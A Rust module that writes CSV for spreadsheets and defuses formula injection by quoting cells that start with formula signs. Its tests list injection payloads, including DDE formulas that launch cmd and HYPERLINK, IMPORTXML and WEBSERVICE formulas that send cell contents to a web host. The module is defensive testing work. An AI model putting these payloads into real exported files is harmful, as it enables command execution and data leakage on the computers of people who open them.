//! CSV for spreadsheets (RFC 4180), whose cells are taken for what they are: text stays text, whatever it begins with and
//! wherever a program that does not know our delimiter cuts it. All CSV that leaves Docket is written here.

use std::borrow::Cow;

/// What a file of CSV begins with, so that Excel takes it for UTF-8.
pub const BOM: &str = "\u{feff}";

/// What a formula begins with.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Lines of CSV in memory, with the line ends of the standard and every cell in quotes.
pub struct Spreadsheet {
    writer: csv::Writer<Vec<u8>>,
    /// Whether it is for a spreadsheet.
    inert: bool,
}

impl Spreadsheet {
    /// One for people and their programs.
    pub fn new() -> Spreadsheet {
        Spreadsheet::written_by(&mut csv::WriterBuilder::new())
    }

    /// One whose lines may be of different widths, as those of a file that somebody sent.
    pub fn of_any_width() -> Spreadsheet {
        Spreadsheet::written_by(csv::WriterBuilder::new().flexible(true))
    }

    fn written_by(builder: &mut csv::WriterBuilder) -> Spreadsheet {
        let quoted =
            builder.terminator(csv::Terminator::CRLF).quote_style(csv::QuoteStyle::Always).from_writer(Vec::new());
        Spreadsheet { writer: quoted, inert: true }
    }

    /// One that only Docket reads, and that nobody is given: its cells are as they are.
    pub(crate) fn between_steps() -> Spreadsheet {
        Spreadsheet { inert: false, ..Spreadsheet::new() }
    }

    /// The next cell of the line.
    pub fn cell(&mut self, text: &str) -> csv::Result<()> {
        self.writer.write_field(if self.inert { inert(text) } else { text.into() }.as_ref())
    }

    /// Ends the line.
    pub fn end(&mut self) -> csv::Result<()> {
        self.writer.write_record(None::<&[u8]>)
    }

    /// A whole line.
    pub fn line(&mut self, cells: impl IntoIterator<Item: AsRef<str>>) -> csv::Result<()> {
        for cell in cells {
            self.cell(cell.as_ref())?;
        }
        self.end()
    }

    /// What was written.
    pub fn finish(self) -> csv::Result<Vec<u8>> {
        self.writer.into_inner().map_err(|error| error.into_error().into())
    }
}

impl Default for Spreadsheet {
    fn default() -> Spreadsheet {
        Spreadsheet::new()
    }
}

/// The text with a `'` before each part that a spreadsheet would take for a formula, the whole or what follows anything
/// that could be a delimiter; numbers stay numbers.
fn inert(text: &str) -> Cow<'_, str> {
    let parts = text.split_inclusive(separates);
    match text.contains(SIGNS) && parts.clone().any(is_formula) {
        true => parts.flat_map(|part| [if is_formula(part) { "'" } else { "" }, part]).collect::<String>().into(),
        false => text.into(),
    }
}

/// Whether some program begins a new cell or line after it.
fn separates(c: char) -> bool {
    c.is_control() || matches!(c, ';' | ',' | '|' | '\u{2028}' | '\u{2029}')
}

/// Quotes and blanks before a sign are taken away by some programs, and so do not count.
fn is_formula(part: &str) -> bool {
    let bare = part.trim_matches(|c: char| c == '"' || c.is_whitespace() || separates(c));
    bare.starts_with(SIGNS) && !is_number(bare)
}

/// Whether it is a plain number: a sign, digits, one point.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, part) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, part].iter().all(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What has been used against people who open a file, and what merely looks like it.
    const FORMULAS: [&str; 38] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"1\")",
        "=A1",
        "=",
        "==1",
        "=\"=\"&A1",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+49 170 1234567",
        "+A1",
        "+",
        "-1+1",
        "-cmd|' /C calc'!A0",
        "-A1",
        "-",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        " =1+1",
        "\"=1+1\"",
        "x;=1+1",
        "x,=1+1",
        "x\t=1+1",
        "x|=1+1",
        "x\n=1+1",
        "x\r=1+1",
        "x; =1+1",
        "x;\"=1&\"",
        "a;b;@A1;c",
        "x\u{2028}=1+1",
    ];
    const HARMLESS: [&str; 19] = [
        "",
        "Lund",
        "O’Sullivan",
        "'=1+1",
        "a=b",
        "1,204",
        "007",
        "-12.5",
        "+4917012345",
        "-3",
        "1;-3",
        "Sørbø; Mia",
        "ana-maria@example.edu; b@example.edu",
        "2024-02-29",
        "two\nlines",
        "say \"hi\"",
        "100 %",
        "🎓",
        "a - b",
    ];

    fn written(cells: &[&str]) -> Vec<u8> {
        let mut sheet = Spreadsheet::new();
        sheet.line(cells).unwrap();
        sheet.finish().unwrap()
    }

    #[test]
    fn nothing_is_left_that_a_spreadsheet_would_work_out_wherever_it_cuts_the_line() {
        for formula in FORMULAS {
            let line = String::from_utf8(written(&["Lund", formula])).unwrap();
            assert!(line.contains('\''), "{formula:?} as {line:?}");
            for delimiter in [',', ';', '\t', '|', '\n', '\r'] {
                for cell in line.split(delimiter) {
                    let cell = cell.trim_matches(|c: char| c == '"' || c.is_whitespace());
                    let cells = cell.split("\",\"").map(|cell| cell.trim_matches('"'));
                    let worked_out = cells.clone().find(|cell| cell.starts_with(SIGNS) && !is_number(cell));
                    assert_eq!(worked_out, None, "{formula:?} cut at {delimiter:?}");
                }
            }
        }
        for text in HARMLESS {
            assert_eq!(inert(text), text, "{text:?}");
        }
    }

    #[test]
    fn every_cell_is_quoted_and_parses_back() {
        let cells: Vec<&str> = FORMULAS.into_iter().chain(HARMLESS).collect();
        let bytes = written(&cells);
        assert!(bytes.starts_with(b"\"'=1+1\",\""), "{}", String::from_utf8_lossy(&bytes[..20]));
        assert_eq!(written(&["7", "", "a"]), b"\"7\",\"\",\"a\"\r\n");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
        let read = reader.records().next().unwrap().unwrap();
        let expected: Vec<Cow<str>> = cells.iter().map(|cell| inert(cell)).collect();
        assert_eq!(read.iter().collect::<Vec<_>>(), expected);
    }
}
